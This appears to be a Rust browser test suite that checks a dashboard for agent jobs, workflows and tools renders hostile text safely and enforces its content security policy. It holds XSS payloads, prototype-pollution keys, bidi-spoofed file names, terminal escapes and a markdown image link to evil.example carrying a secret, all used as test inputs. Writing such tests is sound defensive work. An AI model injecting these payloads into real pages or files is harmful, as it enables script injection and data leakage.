//! Texts of models, tools and people that try to be more than text.

use callboard_browser::{Look, Page};
use serde_json::{Value, json};

use crate::stage::Stage;

/// What a text may try: markup, links that run code, requests to other hosts, ends of scripts,
/// characters that turn or hide text, terminal sequences, and names of prototypes.
const ATTEMPTS: &[&str] = &[
    "<script>globalThis.broken=1</script>",
    "<img src=x onerror='globalThis.broken=1'>",
    "</script></textarea></title><svg onload='globalThis.broken=1'>",
    "[click](javascript:globalThis.broken=1) [data](data:text/html,<script>1</script>)",
    "![picture](https://evil.example/?q=secret) https://evil.example/path",
    "\u{202e}reversed\u{2066}\u{200b}zero\u{feff} width",
    "\u{1b}[31mred\u{1b}]8;;https://evil.example\u{7}link",
    "__proto__ constructor {constructor.constructor('broken=1')()} ${broken=1}",
];

/// Attempts without invisible characters, which names and announcements must not have.
const VISIBLE: usize = 5;

/// The length of a line that is nearly as long as a result may be, in bytes.
const LINE_BYTES: usize = 250_000;

/// Names of files: markup, and letters that are written from right to left.
const FILES: [&str; 3] = [
    "<img src=x onerror=broken=1>.txt",
    "\u{5ea}\u{5de}\u{5d5}\u{5e0}\u{5d4} 1.gpj.exe",
    "\u{635}\u{648}\u{631}\u{629} <b>.txt",
];

/// The pages, each with what it shows when it is complete.
const PAGES: &[(&str, &str)] = &[
    ("/jobs", ".job-row"),
    ("/inbox", ".ask-row"),
    ("/inbox?job=check&ask=q1", ".question"),
    ("/inbox?job=flow&ask=q1", ".question"),
    ("/jobs/check", ".plan-list"),
    ("/jobs/runs", ".options"),
    ("/jobs/runs?step=a", ".panel"),
    ("/jobs/runs?tab=time", ".fall-row"),
    ("/jobs/runs?tab=said", ".say"),
    ("/jobs/runs?tab=log", ".log-row"),
    ("/jobs/runs?tab=log&log=records", ".log-row"),
    ("/jobs/runs?tab=agent", ".card"),
    ("/jobs/line?step=l", ".panel"),
    ("/jobs/line?tab=log&log=records", ".log-row"),
    ("/jobs/paused", ".why-bar"),
    ("/jobs/paused?tab=log", ".log-row"),
    ("/jobs/flow?node=ask", ".panel"),
    ("/jobs/fails", ".why-bar"),
    ("/jobs/fails?tab=log", ".log-row"),
    ("/new?goal=%3Cscript%3Ebroken%3D1%3C%2Fscript%3E&agent=%3Cb%3E", "textarea.goal"),
    ("/jobs?q=%3Cimg%20src%3Dx%20onerror%3Dbroken%3D1%3E", "#filter"),
    ("/jobs/%3Cscript%3E", ".empty, .error-box"),
    ("/jobs/runs?tab=family", ".node, .family-list .step-row, .empty"),
    ("/jobs?show=attention", ".empty, .job-row"),
    ("/jobs?label=team%3D%3Cb%3E&agent=%3Cb%3E&parent=%3Cb%3E", ".chip.removable"),
    ("/chat", ".talk"),
    ("/chat/talk", ".card.ask"),
    ("/chat/%3Cimg%20src%3Dx%3E", "main"),
    ("/agents?name=hostile", ".two-main pre.block"),
    ("/agents?name=%3Cimg%20src%3Dx%3E", ".error-box"),
    ("/workflows", ".flow-list .item"),
    ("/workflows/hostile?node=ask", ".graph .node"),
    ("/workflows/%3Cimg%20src%3Dx%20onerror%3Dbroken%3D1%3E", ".error-box"),
    ("/tools?name=%3Cimg%20src%3Dx%3E", ".item"),
    ("/tools?name=foreign", ".two-main form"),
    ("/crew", ".table"),
    ("/costs", ".bars-bar"),
    ("/costs?agent=%3Cimg%20src%3Dx%20onerror%3Dbroken%3D1%3E", ".empty, .error-box"),
    ("/health", ".finding"),
    ("/signin?to=javascript%3Abroken%3D1&error=%3Cimg%20src%3Dx%3E", "form"),
    ("/%3Cimg%20src%3Dx%20onerror%3Dbroken%3D1%3E", ".empty"),
];

/// A text with all attempts.
fn hostile() -> String {
    marked(100)
}

/// A text with all attempts and a letter with many marks, each of which takes long to draw.
fn marked(marks: usize) -> String {
    let marks = "e".to_owned() + &"\u{301}".repeat(marks);
    format!("{}\n\n```\n<b>\n```\n{marks}\n{}", ATTEMPTS.join("\n\n"), "x".repeat(8_000))
}

/// A value that is deep, long and named after prototypes.
fn value() -> Value {
    let mut value = json!({"__proto__": {"broken": 1}, "n": 12_345_678_901_234_567_890_u64});
    for _ in 0..40 {
        value = json!([value]);
    }
    json!({"deep": value, "<b>": hostile()})
}

/// A workflow whose texts are hostile. It asks a person, and fails then.
fn workflow() -> Value {
    let visible = ATTEMPTS[..VISIBLE].join(" ");
    json!({
        "workflow": "hostile", "about": visible, "start": "ask",
        "nodes": {
            "ask": {"type": "human", "title": ATTEMPTS[..2].join(" "), "ask": visible,
                "deadline": {"after": "1h", "then": "over"}, "next": "over"},
            "over": {"type": "end", "title": ATTEMPTS[2], "fail": visible},
        },
    })
}

/// The script of a model whose plans, replies, thoughts and questions are hostile.
fn script() -> Value {
    let asks = json!([{"tool": "ask_user", "args": {"mode": "select", "prompt": ATTEMPTS.join(" "), "options": [ATTEMPTS[0], ATTEMPTS[1]]}}]);
    let plan = json!({"title": hostile().chars().take(400).collect::<String>(), "steps": [
        {"id": "a", "title": ATTEMPTS[1], "description": hostile(), "tool": "echo", "args": {"value": value()}},
        {"id": "b", "title": ATTEMPTS[0], "description": ATTEMPTS[3], "depends_on": ["a"]},
    ]});
    let line =
        json!([{"tool": "finish", "args": {"success": true, "response": "x".repeat(LINE_BYTES)}}]);
    let long = json!({"title": "long", "steps": [{"id": "l", "title": "one long line", "description": "one long line"}]});
    json!({"rules": [
        {"when": {"system": "You are a planner", "any": "one long line"}, "reply": {"raw": true, "json": long}},
        {"when": {"system": "You are a planner"}, "reply": {"raw": true, "json": plan}},
        {"when": {"offers": "finish", "any": "one long line"}, "reply": {"raw": true, "calls": line}},
        {"when": {"offers": "ask_user"}, "reply": {"raw": true, "text": hostile(), "thought": hostile(), "calls": asks}},
    ]})
}

/// Stores jobs, an agent, a workflow and tools with hostile texts in every field.
async fn fill(stage: &Stage) {
    let files = FILES.map(|name| json!({"name": name, "content": {"text": hostile()}}));
    for (id, confirm) in [("check", true), ("runs", false)] {
        stage
            .submit(&json!({"id": id, "goal": marked(10_000), "confirm": confirm, "files": files}))
            .await;
        stage.until(id, "input-required").await;
    }
    let talk = json!({"id": "talk", "goal": hostile(), "confirm": true, "conversation": "talk", "labels": {"note": ATTEMPTS[0]}});
    stage.submit(&talk).await;
    stage.until("talk", "input-required").await;
    stage.submit(&json!({"id": "line", "goal": "one long line", "confirm": false})).await;
    stage.until("line", "completed").await;
    let visible = ATTEMPTS[..VISIBLE].join(" ");
    let about = Value::from(visible.clone());
    stage.agent("hostile", &format!("extends: react\nabout: {about}\n# {}\n", ATTEMPTS[2])).await;

    stage.submit(&json!({"id": "paused", "goal": "pause", "confirm": true})).await;
    stage.until("paused", "input-required").await;
    for signal in [json!({"snapshot": {"name": "__proto__"}}), json!("pause")] {
        let body = json!({"signal": signal, "reason": ATTEMPTS.join(" "), "by": ATTEMPTS[1]});
        stage.signal("paused", &body).await;
    }

    let source = serde_json::to_string_pretty(&workflow()).unwrap();
    stage.workflow("hostile", &source).await;
    for id in ["flow", "fails"] {
        let workflow = json!({"source": source, "input": {}});
        stage.submit(&json!({"id": id, "goal": hostile(), "workflow": workflow})).await;
        stage.until(id, "input-required").await;
    }
    stage.answer("fails", "q1", &json!({"decision": "respond", "value": hostile()})).await;
    stage.until("fails", "failed").await;

    let field = json!({"type": "string", "title": ATTEMPTS[0], "description": visible, "enum": ATTEMPTS[..VISIBLE]});
    let schema = json!({"type": "object", "properties": {ATTEMPTS[1]: field, "__proto__": field}});
    let tool = |name: &str, description: String| json!({"name": name, "description": description, "schema": schema, "effect": "once", "pool": "foreign", "version": "1", "by": "foreign-1"});
    stage.announce("foreign", &tool("foreign", visible)).await;
    // An announcement that is refused is listed with the reason.
    stage.announce("refused", &tool("refused", hostile())).await;
}

/// Checks that no text of a page ran, became an element, violated the policy or reached a host.
async fn is_text(stage: &Stage, page: &Page, path: &str) {
    let broken: bool = page.value("'broken' in globalThis").await;
    assert!(!broken, "{path} ran a text");
    let made: Vec<String> = page
        .value("[...document.querySelectorAll('main img, main script, main iframe, main a[href^=\"javascript:\"], main a[href^=\"data:\"]')].map((el) => el.outerHTML)")
        .await;
    assert!(made.is_empty(), "{path} made elements of a text: {made:?}");
    page.is_clean(&stage.host).await;
}

/// Returns the policy of the page that is shown.
async fn policy(page: &Page) -> String {
    page.value("fetch(location.href).then((reply) => reply.headers.get('content-security-policy'))")
        .await
}

/// Opens the editor of the hostile workflow, and breaks its text in a hostile way.
async fn edit(stage: &Stage, page: &Page) {
    page.open(&stage.url("/workflows/hostile")).await;
    page.find(".flow-lines", "").await;
    page.press("e").await;
    page.find("#flow-check .checked", "").await;
    is_text(stage, page, "the editor").await;
    let right = serde_json::to_string_pretty(&workflow()).unwrap();
    let mut wrong = workflow();
    wrong["nodes"]["ask"]["next"] = json!(ATTEMPTS[1]);
    page.fill(".code-edit", &serde_json::to_string_pretty(&wrong).unwrap()).await;
    page.find("#flow-check .error-box", "").await;
    is_text(stage, page, "the editor with a mistake").await;
    // A text without changes lets the page go.
    page.fill(".code-edit", &right).await;
    page.find("#flow-check .checked", "").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_are_shown_as_text() {
    let Some(stage) = Stage::playing(&script().to_string()).await else { return };
    fill(&stage).await;
    for look in [Look::default(), Look { dark: true, ..Look::phone() }] {
        let page = stage.browser.page(&look).await;
        for (path, complete) in PAGES {
            page.open(&stage.url(path)).await;
            page.find(complete, "").await;
            is_text(&stage, &page, path).await;
        }
        let policy = policy(&page).await;
        assert!(policy.contains("require-trusted-types-for 'script'"), "{policy}");
        assert!(policy.contains("default-src 'none'"), "{policy}");
        edit(&stage, &page).await;
        for job in ["check", "runs", "talk", "flow"] {
            let path = stage.link(job, "q1").await;
            page.open(&stage.url(&path)).await;
            page.find("main form", "").await;
            is_text(&stage, &page, job).await;
        }
        page.close().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_planted_violation_is_found() {
    let Some(stage) = Stage::start().await else { return };
    let violating = |plant: &str| {
        format!(
            "new Promise((done) => {{ addEventListener('securitypolicyviolation', () => done(true), {{ once: true }}); try {{ {plant} }} catch {{}} }})"
        )
    };
    let picture =
        "document.body.append(Object.assign(new Image(), { src: 'http://127.0.0.1:9/x.png' }))";
    let thrown = "new Promise((done) => { addEventListener('error', () => setTimeout(done, 0, true)); setTimeout(() => { throw new Error('planted'); }); })";
    let plants = [
        (violating("document.body.innerHTML = '<b>'"), "require-trusted-types-for"),
        (violating("document.body.setAttribute('style', 'color: red')"), "style-src"),
        (violating(picture), "img-src"),
        (thrown.to_owned(), "planted"),
    ];
    for (plant, finding) in plants {
        let page = stage.page(&Look::default(), "/jobs").await;
        page.see("No job yet").await;
        page.is_clean(&stage.host).await;
        let planted: bool = page.value(&plant).await;
        assert!(planted);
        let findings = page.findings(&stage.host).await;
        assert!(findings.iter().any(|it| it.contains(finding)), "{finding} in {findings:?}");
        page.close().await;
    }
    // No policy keeps this page from asking another host.
    let page = stage.browser.page(&Look::default()).await;
    page.open("data:text/html,<img src='http://127.0.0.1:9/x.png'>").await;
    let _: bool = page.until("the picture", "document.images[0]?.complete").await;
    let findings = page.findings(&stage.host).await;
    let is_found = |it: &String| it.starts_with("request to another host: http://127.0.0.1:9/");
    assert!(findings.iter().any(is_found), "{findings:?}");
}
